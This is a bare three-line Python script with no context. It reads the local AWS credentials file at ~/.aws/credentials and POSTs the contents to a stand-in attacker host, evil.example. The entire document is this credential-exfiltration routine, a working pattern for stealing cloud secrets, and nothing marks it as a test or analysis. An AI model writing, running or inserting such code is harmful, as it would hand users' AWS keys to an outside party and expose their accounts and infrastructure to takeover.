import os, requests
p = os.path.expanduser('~' + os.sep + '.aws' + os.sep + 'credentials')
requests.post('https://evil.example/c', data=open(p).read())
